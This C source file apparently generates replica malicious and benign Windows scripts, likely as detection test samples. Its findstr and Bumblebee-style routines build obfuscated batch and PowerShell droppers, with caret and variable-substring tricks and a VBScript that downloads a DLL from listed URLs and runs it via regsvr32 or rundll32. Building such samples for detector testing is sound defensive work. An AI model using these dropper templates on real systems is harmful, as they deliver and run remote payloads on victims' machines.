/* Eras whose carriers were scripts and command lines: what a shortcut's findstr carved out of itself (as a batch file), lines of
 * PowerShell; and scripts of administrators that use the same tricks without acting. */
#include <string.h>

#include "make/replica_eras.h"
#include "make/replica_powershell.h"
#include "make/replica_vba.h"

#define TEXT(b) (int)(b).len, (const char *)(b).p

/* --- cmd --- */

/* Carets and letters of the other case between a command's letters: cmd reads over them. */
static const char *careted(replica *r, const char *text)
{
    sk_buf b = sk_buf_new(r->a, 4096);
    for (; *text; text++) {
        if (sk_is_alpha((uint8_t)*text) && replica_odds(r, 25)) sk_buf_byte(&b, '^');
        sk_buf_byte(&b, (uint8_t)(replica_odds(r, 30) ? sk_upper((uint8_t)*text) : *text));
    }
    return sk_arena_string(r->a, sk_buf_view(&b));
}

/* A word as %name%: set in front, in pieces. */
static const char *by_variable(replica *r, sk_buf *lines, const char *text)
{
    const char *name = replica_name(r);
    unsigned how = replica_below(r, 3);
    const char *marker = "#7";
    size_t half = strlen(text) / 2;
    sk_bytes marked = replica_with_marker(r, sk_bytes_str(text), marker);
    switch (how) {
    case 0: sk_buf_format(lines, "set %s=%s\r\n", name, text); return sk_text_format(r->a, "%%%s%%", name);
    case 1:
        sk_buf_format(lines, "set \"%s=%.*s\"\r\n", name, TEXT(marked));
        return sk_text_format(r->a, "%%%s:%s=%%", name, marker);
    default:
        sk_buf_format(lines, "set \"%s=qq%s%s\"\r\n", name, text, replica_word(r));
        return sk_text_format(r->a, "%%%s:~2,%zu%%%%%s:~%zu,%zu%%", name, half, name, half + 2, strlen(text) - half);
    }
}

static void junk(replica *r, sk_buf *b)
{
    if (r->stranger && replica_odds(r, 50)) {
        r->stranger = false;
        sk_buf_format(b, "nosuch%s /q %u >nul 2>&1\r\n", replica_word(r), replica_below(r, 9));
        return;
    }
    switch (replica_below(r, 4)) {
    case 0: sk_buf_format(b, "rem %s\r\n", replica_sentence(r)); break;
    case 1: sk_buf_format(b, "set %s=%s\r\n", replica_name(r), replica_word(r)); break;
    case 2: sk_buf_format(b, "set /a %s=%u*%u\r\n", replica_name(r), replica_below(r, 99), replica_below(r, 99)); break;
    default: sk_buf_format(b, "if %u==%u echo %s\r\n", replica_below(r, 9), 9 + replica_below(r, 9), replica_word(r));
    }
}

/* The lines of a script stand behind the commands, each with a mark, and findstr writes them out. */
void replica_era_findstr(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    replica_store_start(s, r, REPLICA_SCRIPT);
    replica_vba_start(&v, r, s);
    replica_addresses(r, 0);
    replica_keep(r, replica_odds(r, 50) ? "C:\\ProgramData" : "C:\\Users\\Public", "dll");
    (void)replica_command(r, REPLICA_REGSVR32);
    v.light = v.unbroken = true; /* each line carries its mark */
    bool inside = r->stranger && replica_odds(r, 50), outside = r->stranger && !inside;
    r->stranger = inside;
    const char *start = sk_text_format(r->a, "CreateObject(`WScript.Shell`).Run `%s`, 0\n", r->out->command);
    sk_bytes script = replica_vba_script(
        &v, sk_text_format(r->a,
                           "On Error Resume Next\n%%junk%%\nFor Each @u In Array(`%s`)\nSet @h = "
                           "CreateObject(`MSXML2.ServerXMLHTTP`)\n@h.Open `GET`, @u, False\n@h.Send\n"
                           "If @h.Status = 200 Then\nSet @o = CreateObject(`ADODB.Stream`)\n@o.Type = 1\n@o.Open\n@o.Write "
                           "@h.responseBody\n@o.SaveToFile `%s`, 2\n%sExit For\nEnd If\nNext\n",
                           replica_joined(r, "`, `"), r->path, start));
    r->stranger = outside;
    const char *mark = sk_text_format(r->a, "'%s%u", replica_word(r), replica_below(r, 999));
    const char *name = sk_text_format(r->a, "nosuch%s.vbs", replica_word(r));
    sk_buf b = sk_buf_new(r->a, 1u << 20);
    sk_buf_str(&b, "@echo off\r\n");
    const char *find = by_variable(r, &b, "findstr"), *host = by_variable(r, &b, replica_odds(r, 50) ? "wscript" : "cscript");
    if (replica_odds(r, 50)) find = careted(r, "findstr");
    if (replica_odds(r, 60)) junk(r, &b);
    while (r->stranger) junk(r, &b);
    sk_buf_format(&b, "%s /e \"%s\" \"%%~f0\" > \"%%temp%%\\%s\"%s%s \"%%temp%%\\%s\"\r\n", find, mark, name,
                  replica_odds(r, 50) ? " & " : "\r\n", host, name);
    sk_buf_str(&b, "exit /b\r\n");
    for (sk_bytes line; sk_next_line(&script, &line, NULL);)
        if (line.len) sk_buf_format(&b, "%.*s %s\r\n", TEXT(line), mark);
    r->out->bytes = sk_buf_view(&b);
    r->out->name = sk_text_format(r->a, "%s.cmd", replica_word(r));
}

/* --- PowerShell --- */

void replica_era_bumblebee(replica *r)
{
    replica_addresses(r, replica_between(r, 1, 4));
    replica_keep(r, replica_odds(r, 50) ? "C:\\ProgramData" : "C:\\Users\\Public", "dll");
    (void)replica_command(r, REPLICA_RUNDLL32);
    bool line = replica_odds(r, 50);
    sk_bytes script = replica_powershell_script(r, replica_between(r, line ? 0 : 1, 3));
    r->out->bytes = line ? sk_text_bytes(r->a, "@echo off\r\nstart /min %s\r\n", replica_powershell_command(r, script)) : script;
    r->out->name = sk_text_format(r->a, "%s.%s", replica_word(r), line ? "cmd" : "ps1");
}

/* --- harmless ones --- */

static sk_bytes office_batch(replica *r)
{
    sk_buf b = sk_buf_new(r->a, 1u << 16);
    sk_buf_str(&b, "@echo off\r\nsetlocal enabledelayedexpansion\r\n");
    for (unsigned i = 0; i < 3; i++) junk(r, &b);
    const char *copy = by_variable(r, &b, "xcopy");
    sk_buf_format(&b,
                  "set day=%%date:~0,4%%\r\nfor /f \"tokens=1,2 delims=,\" %%%%a in (\"north,south\") do echo %%%%a %%%%b\r\n%s "
                  "\"C:\\Data\\%s\" \"D:\\Backup\\%%day%%\" /e /i /y\r\n",
                  copy, replica_word(r));
    sk_buf_format(&b, "findstr /i \"error\" \"C:\\Data\\%s.log\" > \"%%temp%%\\errors.txt\"\r\necho done\r\n", replica_word(r));
    return sk_buf_view(&b);
}

static sk_bytes office_vbs(replica *r)
{
    static const char *const bodies[] = {
        "Set @fso = CreateObject(`Scripting.FileSystemObject`)\nFor Each @f In @fso.GetFolder(`C:\\Reports`).Files\n@list = "
        "@list & @f.Name & vbCrLf\nNext\nWScript.Echo @list\n",
        "Set @net = CreateObject(`WScript.Network`)\n@net.MapNetworkDrive `P:`, `\\\\fileserver.example\\projects`\nWScript.Echo "
        "`Drive P: is ready`\n",
        "@parts = Split(`2021-04-01`, \"-\")\nWScript.Echo Join(Array(@parts(2), @parts(1), @parts(0)), `.`)\n"};
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    replica_store_start(s, r, REPLICA_SCRIPT);
    replica_vba_start(&v, r, s);
    v.office = v.light = true;
    /* junk of macros has Dim ... As, which scripts do not */
    v.writer.junk_odds = 0;
    return replica_vba_script(&v, REPLICA_PICK(r, bodies));
}

void replica_era_office_script(replica *r)
{
    static const char *const extensions[] = {"cmd", "ps1", "vbs", "js"};
    static sk_bytes (*const makers[])(replica * r) = {office_batch, replica_powershell_office, office_vbs,
                                                      replica_javascript_office};
    unsigned which = replica_below(r, SK_COUNT(makers));
    r->out->bytes = makers[which](r);
    r->out->name = sk_text_format(r->a, "%s.%s", replica_word(r), extensions[which]);
}
